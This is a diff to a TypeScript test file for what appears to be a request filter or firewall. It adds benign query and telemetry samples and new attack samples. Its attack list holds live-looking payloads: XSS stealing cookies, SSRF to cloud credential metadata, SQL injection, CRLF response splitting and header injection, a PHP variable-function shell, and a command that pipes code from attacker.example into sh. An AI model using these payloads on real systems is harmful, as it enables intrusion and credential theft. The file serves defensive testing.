@@ -39,6 +39,9 @@ const BENIGN: Sample[] = [
   { label: 'search syntax', path: `/search/issues?q=${q('is:open is:pr author:@me label:"needs review"')}` },
   { label: 'JQL', path: `/rest/search?jql=${q('project = PORT AND status in ("In Progress", Review) ORDER BY priority DESC')}` },
   { label: 'Lucene range', path: `/search?q=${q('title:(waf OR "api gateway") AND year:[2020 TO 2026]')}` },
+  { label: 'PromQL', path: `/api/v1/query_range?query=${q('sum(rate(http_requests_total{job="api",status=~"5.."}[5m])) by (instance)')}&start=1764200000&end=1764203600&step=15` },
+  { label: 'LogQL', path: `/loki/api/v1/query_range?query=${q('{app="api", env!="dev"} |= "error" | json | line_format "{{.level}} {{.msg}}"')}` },
+  json('Grafana SQL macros', '/api/ds/query', { queries: [{ refId: 'A', datasource: { uid: 'pg1' }, rawSql: 'SELECT $__timeGroupAlias(time, $__interval), avg(value) AS "value" FROM metrics WHERE $__timeFilter(time) GROUP BY 1 ORDER BY 1', format: 'time_series' }], from: 'now-6h', to: 'now' }),
   { label: 'PostgREST', path: '/rest/v1/orders?select=id,total,items(id,qty)&status=eq.open&order=created_at.desc' },
   { label: 'presigned S3 URL', path: '/bucket/report.pdf?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIAIOSFODNN7EXAMPLE%2F20261127%2Fap-northeast-2%2Fs3%2Faws4_request&X-Amz-Date=20261127T101010Z&X-Amz-Expires=3600&X-Amz-SignedHeaders=host&X-Amz-Signature=fe5f80f77d5fa3beca038a248ff027d0445342fe2855ddc963176630326f1024' },
   { label: 'download disposition', path: `/files/1?response-content-disposition=${q('attachment; filename="report (1).pdf"')}` },
@@ -60,6 +63,8 @@ const BENIGN: Sample[] = [
   { label: 'Datadog RUM', path: '/api/v2/rum?ddsource=browser&ddtags=sdk_version%3A5.30.0%2Cenv%3Aprod', type: 'text/plain;charset=UTF-8', body: [JSON.stringify({ type: 'view', view: { url: 'https://shop.example.com/cart?step=2', name: '/cart' } }), JSON.stringify({ type: 'resource', resource: { type: 'xhr', url: 'https://shop.example.com/api/cart/items?include=product.images&fields[product]=name,price', method: 'PATCH' } })].join('\n') },
   json('web-vitals', '/vitals', { name: 'LCP', value: 2345.6, attribution: { element: 'main > section.hero > img.hero-image', url: 'https://cdn.example.com/img/hero.webp?w=1200&q=80' } }),
   json('session replay', '/collect', { e: [{ t: 'click', s: "div.product-card:nth-child(3) > a[href*='products']" }, { t: 'input', s: 'input#search[name="q"]', v: '***' }] }),
+  // Firebase's Firestore writes over Google WebChannel: the request's headers travel as one query parameter
+  { label: 'Firestore WebChannel', path: `/google.firestore.v1.Firestore/Write/channel?database=${q('projects/shop-app/databases/(default)')}&VER=8&RID=51234&CVER=22&X-HttpMethodOverride=POST&${q('$httpHeaders')}=${q('X-Goog-Api-Client:gl-js/ fire/10.7.1\r\nContent-Type:text/plain\r\nX-Firebase-GMPID:1:1234567890:web:abcdef\r\n')}&zx=k3j4h5&t=1`, type: 'application/x-www-form-urlencoded', body: `count=1&ofs=0&req0___data__=${q(JSON.stringify({ database: 'projects/shop-app/databases/(default)' }))}` },
   { label: 'Stripe.js form', path: '/v1/payment_methods', type: 'application/x-www-form-urlencoded', body: 'type=card&card[number]=4242424242424242&card[cvc]=123&billing_details[address][postal_code]=04524&payment_user_agent=stripe.js%2F1a2b3c%3B+stripe-js-v3&referrer=https%3A%2F%2Fshop.example.com' },
   // webhooks and developer APIs
   json('JSON Patch', '/api/items/42', [{ op: 'replace', path: '/name', value: 'New name' }, { op: 'add', path: '/tags/-', value: 'sale' }, { op: 'move', from: '/a/b', path: '/a/c' }], 'application/json-patch+json', 'PATCH'),
@@ -91,6 +96,9 @@ const ATTACKS: Sample[] = [
   json('XSS in a Segment property', '/v1/batch', { batch: [{ type: 'track', properties: { name: '<img src=x onerror=alert(document.cookie)>' } }] }, 'text/plain'),
   json('SSRF in a webhook URL', '/api/webhooks', { url: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' }),
   json('SQL in a filter field', '/api/search', { filter: { field: 'name', op: 'eq', value: "Kim' or '1'='1" } }),
+  { label: 'response splitting in a header list', path: `/channel?${q('$httpHeaders')}=${q('Content-Type:text/plain\r\n\r\n<html><script>alert(1)</script>')}` },
+  { label: 'header injected after text', path: `/channel?headers=${q('x\r\nSet-Cookie: session=attacker')}` },
+  json('PHP variable function in a query field', '/api/ds/query', { rawSql: 'SELECT 1; $f = $_GET["f"]; $f($_GET["a"]);' }),
   { label: 'command in a JSON Patch value', path: '/api/items/1', method: 'PATCH', type: 'application/json-patch+json', body: JSON.stringify([{ op: 'replace', path: '/name', value: '$(curl http://attacker.example/x.sh | sh)' }]) },
 ];
 
